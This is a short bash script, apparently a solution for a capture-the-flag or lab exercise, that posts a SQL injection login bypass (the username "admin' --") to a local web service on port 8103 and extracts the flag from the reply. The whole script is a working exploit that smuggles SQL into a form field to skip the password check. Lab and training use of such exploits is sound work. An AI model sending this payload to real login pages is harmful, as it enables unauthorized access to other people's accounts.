#!/bin/bash
# Classic login bypass: comment out the password check for the admin user.
set -e
python3 - <<'PY'
import re, urllib.parse, urllib.request, urllib.error
data = urllib.parse.urlencode({"username": "admin' --", "password": "x"}).encode()
try:
    body = urllib.request.urlopen("http://127.0.0.1:8103/login", data).read().decode()
except urllib.error.HTTPError as e:
    body = e.read().decode()
print(re.search(r"flag\{[^}<]+\}", body).group(0))
PY
